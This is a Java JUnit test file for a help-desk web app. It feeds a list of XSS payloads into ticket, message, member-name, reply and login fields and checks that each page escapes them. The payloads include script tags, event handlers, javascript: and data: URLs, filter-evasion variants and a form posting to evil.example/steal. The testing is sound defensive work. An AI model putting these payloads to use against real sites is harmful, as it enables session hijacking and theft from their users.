package io.claimdesk.web;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.claimdesk.core.claim.ClaimOutcome;
import io.claimdesk.core.claim.Via;
import io.claimdesk.core.team.NewMember;
import io.claimdesk.core.team.Role;
import io.claimdesk.core.team.TeamMember;
import io.claimdesk.core.ticket.EmailThread;
import io.claimdesk.core.ticket.NewThread;
import io.claimdesk.core.ticket.ThreadMessage;
import io.claimdesk.core.ticket.TicketStatus;
import io.claimdesk.web.ApiFixture.LoginForm;
import io.claimdesk.web.ApiFixture.WebResponse;
import io.claimdesk.web.ApiFixture.WebSession;
import java.net.URLEncoder;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.assertj.core.api.SoftAssertions;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Hostile text everywhere a customer or a team member can put text: ticket subject, customer name, a message's
 * sender name, plain text and HTML, a member's name, a reply draft, a form value echoed in a notice, the login form.
 * Every page showing it must run none of it (no script, handler, dangerous URL, frame, style or base), load no remote
 * image unasked, and still show the text itself, escaped, so that nothing passes by being dropped.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class XssCorpusTest {
  static final List<String> CORPUS = List.of(
      "<script>alert(1)</script>",
      "<ScRiPt>alert(1)</sCrIpT>",
      "<img src=x onerror=alert(1)>",
      "<svg onload=alert(1)>",
      "<svg><script>alert(1)</script></svg>",
      "<a href=\"javascript:alert(1)\">click</a>",
      "<a href=\" JaVaScRiPt:alert(1)\">case</a>",
      "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
      "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
      "<a href=\"https://example.org/\" onclick=\"alert(1)\">fine link, bad handler</a>",
      "<iframe src=\"https://evil.example/\"></iframe>",
      "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
      "<object data=\"https://evil.example/x.swf\"></object>",
      "<embed src=\"https://evil.example/x.swf\">",
      "<form action=\"https://evil.example/steal\"><input name=p><button formaction=\"javascript:alert(1)\">go</button></form>",
      "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
      "<style>@import 'https://evil.example/x.css';</style>",
      "<div style=\"background:url(javascript:alert(1))\">styled</div>",
      "<base href=\"https://evil.example/\">",
      "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
      "\"><script>alert(1)</script>",
      "'><img src=x onerror=alert(1)>",
      "{{constructor.constructor('alert(1)')()}}",
      "</textarea><script>alert(1)</script>",
      "</title><script>alert(1)</script>",
      "&lt;script&gt;alert(1)&lt;/script&gt;",
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<math><mi xlink:href=\"javascript:alert(1)\">math</mi></math>",
      "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">svg link</text></a></svg>",
      "<details open ontoggle=alert(1)>",
      "<body onload=alert(1)>",
      "<input autofocus onfocus=alert(1)>",
      "<video><source onerror=alert(1)></video>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
      "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
      "<img src=\"https://tracker.example/p.gif\">",
      "<img src=\"//tracker.example/p.gif\">",
      "javascript:alert(1)");

  private static final String TRACKER = "<img src=\"https://tracker.example/p.gif\">";
  private static final Set<String> URL_ATTRIBUTES =
      Set.of("href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset");
  private static final String FORBIDDEN_ELEMENTS =
      "iframe, frame, frameset, object, embed, applet, base, meta[http-equiv], style, svg, math";

  private ApiFixture fixture;
  private WebSession manager;
  private TeamMember managerMember;
  private final List<Case> cases = new ArrayList<>();
  /** Owned by the first member, so that the manager's reply to it is refused and the draft comes back. */
  private EmailThread claimedByOther;

  /** One payload with the ticket and the member that carry it; odd ones are claimed by their member. */
  record Case(int index, String payload, EmailThread ticket, TeamMember member, boolean claimed) {
    @Override
    public String toString() {
      return "#" + index + " " + payload;
    }
  }

  @BeforeAll
  void setUp() {
    fixture = new ApiFixture();
    // the manager's own name is hostile too: the page header shows it
    managerMember = fixture.team.create(new NewMember("<img src=x onerror=alert('manager')>",
        "boss@example.com", Role.MANAGER, null, null, null), "boss-password").orElseThrow();
    Instant t0 = Instant.parse("2026-11-01T09:00:00Z");
    for (int i = 0; i < CORPUS.size(); i++) {
      String payload = CORPUS.get(i);
      Instant at = t0.plusSeconds(60L * i);
      EmailThread ticket = fixture.stores.tickets().insert(new NewThread("support@example.com", payload,
          "customer" + i + "@example.org", payload, TicketStatus.OPEN, at));
      fixture.stores.tickets().appendMessage(ticket.id(), message(ticket, i, "text", payload, payload, null, at),
          null);
      fixture.stores.tickets().appendMessage(ticket.id(), message(ticket, i, "html", payload, payload, payload,
          at.plusSeconds(1)), null);
      TeamMember member = fixture.team.create(new NewMember(payload, "member" + i + "@example.com", Role.AGENT,
          null, null, null), "password-" + i).orElseThrow();
      boolean claimed = i % 2 == 1;
      if (claimed) {
        assertThat(fixture.claims.claim(ticket.id(), member, Via.WEB)).isInstanceOf(ClaimOutcome.Won.class);
      }
      cases.add(new Case(i, payload, fixture.stores.tickets().find(ticket.id()).orElseThrow(), member, claimed));
    }
    claimedByOther = fixture.ticket("Owned by someone else", t0.minusSeconds(3600));
    assertThat(fixture.claims.claim(claimedByOther.id(), cases.get(0).member(), Via.WEB))
        .isInstanceOf(ClaimOutcome.Won.class);
    fixture.settle();
    manager = fixture.login("boss@example.com", "boss-password");
  }

  private static ThreadMessage message(EmailThread ticket, int i, String kind, String fromName, String text,
      String html, Instant at) {
    return new ThreadMessage(null, ticket.id(), ThreadMessage.Direction.INBOUND, "<" + kind + i + "@example.org>",
        null, List.of(), "customer" + i + "@example.org", fromName, List.of("support@example.com"), List.of(), at,
        text, html, List.of(), null);
  }

  @AfterAll
  void tearDown() {
    fixture.close();
  }

  Stream<Case> cases() {
    return cases.stream();
  }

  Stream<String> corpus() {
    return CORPUS.stream();
  }

  @Test
  void corpusShouldCoverTheAgreedPayloads() {
    assertThat(CORPUS).hasSizeGreaterThanOrEqualTo(24).doesNotHaveDuplicates();
    // the all-tickets page shows one page of 50: every payload's ticket must be on it
    assertThat(CORPUS.size() + 1).isLessThanOrEqualTo(50);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void ticketPageShouldShowEveryFieldAsText(Case c) {
    String path = "/dashboard/tickets/" + c.ticket().id();
    Document page = safePage(path, c, false);

    SoftAssertions soft = new SoftAssertions();
    soft.assertThat(text(page.selectFirst("#subject"))).as("subject on %s for %s", path, c).isEqualTo(flat(c.payload()));
    soft.assertThat(page.title()).as("title on %s for %s", path, c).contains(flat(c.payload()));
    soft.assertThat(text(page.selectFirst("dl.facts dd"))).as("customer on %s for %s", path, c)
        .contains(flat(c.payload()));
    soft.assertThat(page.select("li.message .meta")).as("sender names on %s for %s", path, c).hasSize(2)
        .allSatisfy(meta -> assertThat(text(meta)).contains(flat(c.payload())));
    soft.assertThat(text(page.selectFirst("li.message pre.body.text"))).as("plain text on %s for %s", path, c)
        .isEqualTo(flat(c.payload()));
    soft.assertThat(page.select("li.message div.body.html")).as("HTML part on %s for %s", path, c).hasSize(1);
    soft.assertThat(page.select("select[name=memberId] option[value=" + c.member().id() + "]").text())
        .as("reassign choice on %s for %s", path, c).contains(flat(c.payload()));
    if (c.claimed()) {
      soft.assertThat(text(page.selectFirst("#owner-banner"))).as("owner on %s for %s", path, c)
          .contains(flat(c.payload()) + " is handling");
    }
    soft.assertThat(text(page.selectFirst("header .who"))).as("signed-in name on %s", path)
        .isEqualTo(flat(managerMember.name()));
    soft.assertAll();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void replyPageShouldShowEveryFieldAsText(Case c) {
    String path = "/dashboard/tickets/" + c.ticket().id() + "/reply";
    Document page = safePage(path, c, false);

    SoftAssertions soft = new SoftAssertions();
    soft.assertThat(text(page.selectFirst("main a[href='/dashboard/tickets/" + c.ticket().id() + "']")))
        .as("subject on %s for %s", path, c).isEqualTo("← " + flat(c.payload()));
    soft.assertThat(page.title()).as("title on %s for %s", path, c).contains(flat(c.payload()));
    soft.assertThat(text(page.selectFirst("main h1"))).as("customer on %s for %s", path, c)
        .contains(flat(c.payload()));
    soft.assertThat(text(page.selectFirst("li.message pre.body.text"))).as("plain text on %s for %s", path, c)
        .isEqualTo(flat(c.payload()));
    soft.assertThat(page.select("textarea[name=body]")).as("reply box on %s for %s", path, c).singleElement()
        .satisfies(box -> assertThat(box.wholeText()).isEmpty());
    soft.assertAll();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("corpus")
  void refusedReplyShouldGiveTheDraftBackAsText(String payload) {
    String path = "/dashboard/tickets/" + claimedByOther.id() + "/reply";
    WebResponse response = fixture.web(fixture.form(path, manager.cookie(),
        Map.of("_csrf", manager.csrf(), "body", payload)));

    assertThat(response.status()).as("POST %s", path).isEqualTo(409);
    Document page = assertSafe("POST " + path + " with draft " + payload, response, false);
    assertThat(page.select("textarea[name=body]")).singleElement()
        .satisfies(box -> assertThat(box.wholeText()).isEqualTo(payload));
    assertThat(fixture.sender.sent).isEmpty();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("corpus")
  void unknownStatusShouldBeEchoedAsText(String payload) {
    String ticketPath = "/dashboard/tickets/" + claimedByOther.id();
    WebResponse posted = fixture.web(fixture.form(ticketPath + "/status", manager.cookie(),
        Map.of("_csrf", manager.csrf(), "status", payload)));
    assertThat(posted.status()).isEqualTo(302);
    assertThat(posted.location()).isEqualTo(ticketPath);

    WebResponse next = fixture.web(fixture.page(ticketPath, manager.cookie()));
    assertThat(next.status()).isEqualTo(200);
    Document page = assertSafe("GET " + ticketPath + " after status " + payload, next, false);
    assertThat(text(page.selectFirst(".flash"))).isEqualTo(flat("Unknown status: " + payload));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("corpus")
  void loginFormShouldEchoWhatWasTypedAsText(String payload) {
    String next = "/dashboard/" + payload;
    WebResponse form = fixture.web(fixture.page("/login?next=" + URLEncoder.encode(next, UTF_8), null));
    assertThat(form.status()).isEqualTo(200);
    Document formPage = assertSafe("GET /login with next " + next, form, false);
    assertThat(formPage.selectFirst("input[name=next]").attr("value")).isEqualTo(next);

    // a stale form token: refused before any password check, so the failed-login limit is not touched
    WebResponse refused = fixture.submitLogin(new LoginForm("stale", "other"), payload, "x", next);
    assertThat(refused.status()).isEqualTo(403);
    Document refusedPage = assertSafe("POST /login with email " + payload, refused, false);
    assertThat(refusedPage.selectFirst("input[name=email]").attr("value")).isEqualTo(payload.strip());
    assertThat(refusedPage.selectFirst("input[name=next]").attr("value")).isEqualTo(next);
  }

  @ParameterizedTest
  @ValueSource(strings = {"/dashboard/tickets", "/dashboard/tickets/unassigned"})
  void ticketListShouldShowEverySubjectAndCustomerAsText(String path) {
    Document page = safePage(path, null, false);

    SoftAssertions soft = new SoftAssertions();
    for (Case c : cases) {
      boolean listed = path.endsWith("/tickets") || !c.claimed();
      Element row = page.getElementById("t-" + c.ticket().id());
      if (!listed) {
        soft.assertThat(row).as("claimed ticket %s on %s", c, path).isNull();
        continue;
      }
      soft.assertThat(row).as("row of %s on %s", c, path).isNotNull();
      if (row == null) {
        continue;
      }
      soft.assertThat(text(row.selectFirst("td.subject a"))).as("subject of %s on %s", c, path)
          .isEqualTo(flat(c.payload()));
      soft.assertThat(text(row.selectFirst("td.from"))).as("customer of %s on %s", c, path)
          .contains(flat(c.payload()));
      if (c.claimed()) {
        soft.assertThat(text(row.selectFirst(".state"))).as("owner of %s on %s", c, path)
            .isEqualTo(flat(c.payload()) + " is handling");
      }
      if (path.endsWith("/tickets")) {
        soft.assertThat(page.select("select[name=assignee] option[value=" + c.member().id() + "]").text())
            .as("assignee choice of %s on %s", c, path).isEqualTo(flat(c.payload()));
      }
    }
    soft.assertAll();
  }

  @Test
  void teamPageShouldShowEveryMemberNameAsText() {
    Document page = safePage("/dashboard/team", null, false);

    SoftAssertions soft = new SoftAssertions();
    for (Case c : cases) {
      Element row = page.selectFirst("#team tr[data-member=" + c.member().id() + "]");
      soft.assertThat(row).as("row of %s on the team page", c).isNotNull();
      if (row != null) {
        soft.assertThat(text(row.selectFirst("td"))).as("name of %s on the team page", c)
            .isEqualTo(flat(c.payload()) + " " + c.member().email());
      }
    }
    soft.assertAll();
  }

  @Test
  void remoteImagesShouldLoadOnlyWhenTheReaderAsks() {
    Case tracker = cases.stream().filter(c -> c.payload().equals(TRACKER)).findFirst().orElseThrow();
    String path = "/dashboard/tickets/" + tracker.ticket().id();

    Document hidden = safePage(path, tracker, false);
    assertThat(hidden.select("img")).isEmpty();
    assertThat(hidden.select(".blocked-image")).hasSize(1);
    assertThat(hidden.select("p.notice a").attr("href")).isEqualTo(path + "?images=1");

    WebResponse shown = fixture.web(fixture.page(path + "?images=1", manager.cookie()));
    assertThat(shown.status()).isEqualTo(200);
    Document page = assertSafe("GET " + path + "?images=1", shown, true);
    assertThat(page.select("li.message div.body.html img")).singleElement()
        .satisfies(img -> assertThat(img.attr("src")).isEqualTo("https://tracker.example/p.gif"));
    assertThat(shown.headers().firstValue("Content-Security-Policy").orElseThrow()).contains("https:");
  }

  /** Fetches a page as the manager and checks it; {@code c} names the payload in failure messages. */
  private Document safePage(String path, Case c, boolean remoteImages) {
    WebResponse response = fixture.web(fixture.page(path, manager.cookie()));
    String what = "GET " + path + (c == null ? " (whole corpus)" : " with payload " + c);
    assertThat(response.status()).as(what).isEqualTo(200);
    return assertSafe(what, response, remoteImages);
  }

  /** Parses the page and fails with every way it could run script or leak, each named with its element. */
  private static Document assertSafe(String what, WebResponse response, boolean remoteImages) {
    assertThat(response.headers().firstValue("Content-Security-Policy")).as("CSP of %s", what)
        .hasValueSatisfying(csp -> assertThat(csp).contains("script-src 'self'").doesNotContain("unsafe-inline")
            .doesNotContain("unsafe-eval"));
    Document page = response.document();
    assertThat(unsafeParts(page, remoteImages)).as("unsafe parts of %s", what).isEmpty();
    return page;
  }

  /**
   * Our own scripts, which carry no inline code: live updates, keyboard shortcuts and the header's softphone widget
   * (the layout's), and the reply page's saved-reply picker.
   */
  private static final Set<String> OWN_SCRIPTS = Set.of("/static/live.js", "/static/shortcuts.js",
      "/dashboard/phone/softphone.js", "/static/compose.js");

  static List<String> unsafeParts(Document page, boolean remoteImages) {
    List<String> found = new ArrayList<>();
    for (Element script : page.select("script")) {
      if (!OWN_SCRIPTS.contains(script.attr("src")) || !script.data().isBlank()) {
        found.add("script: " + brief(script));
      }
    }
    for (Element element : page.select(FORBIDDEN_ELEMENTS)) {
      found.add("forbidden element: " + brief(element));
    }
    for (Element element : page.getAllElements()) {
      for (Attribute attribute : element.attributes()) {
        String name = attribute.getKey().toLowerCase(Locale.ROOT);
        if (name.startsWith("on")) {
          found.add("event handler " + name + ": " + brief(element));
        }
        if (name.equals("style")) {
          found.add("style attribute: " + brief(element));
        }
        if (URL_ATTRIBUTES.contains(name)) {
          String url = url(attribute.getValue());
          if (url.startsWith("javascript:") || url.startsWith("vbscript:") || url.startsWith("data:text")) {
            found.add("script URL in " + name + ": " + brief(element));
          }
        }
      }
    }
    for (Element link : page.select("link")) {
      if (!url(link.attr("href")).startsWith("/static/")) {
        found.add("foreign link: " + brief(link));
      }
    }
    for (Element form : page.select("form")) {
      String action = url(form.attr("action"));
      if (!action.startsWith("/") || action.startsWith("//")) {
        found.add("form posting elsewhere: " + brief(form));
      }
    }
    if (!remoteImages) {
      for (Element img : page.select("img[src], img[srcset], image, video[poster]")) {
        for (String name : List.of("src", "srcset", "href", "xlink:href", "poster")) {
          String url = url(img.attr(name));
          if (url.startsWith("http:") || url.startsWith("https:") || url.startsWith("//")) {
            found.add("remote image: " + brief(img));
          }
        }
      }
    }
    return found;
  }

  /** An attribute value as a browser reads a URL: case and embedded whitespace or control characters ignored. */
  private static String url(String value) {
    StringBuilder out = new StringBuilder();
    value.strip().codePoints()
        .filter(cp -> !Character.isWhitespace(cp) && !Character.isISOControl(cp) && !Character.isSpaceChar(cp))
        .forEach(out::appendCodePoint);
    return out.toString().toLowerCase(Locale.ROOT);
  }

  private static String brief(Element element) {
    String html = element.outerHtml().replaceAll("\\s+", " ");
    return html.length() > 300 ? html.substring(0, 300) + "…" : html;
  }

  /** An element's text with whitespace runs as one space; null when the element is missing. */
  private static String text(Element element) {
    return element == null ? null : flat(element.wholeText());
  }

  private static String flat(String value) {
    return value.strip().replaceAll("\\s+", " ");
  }
}
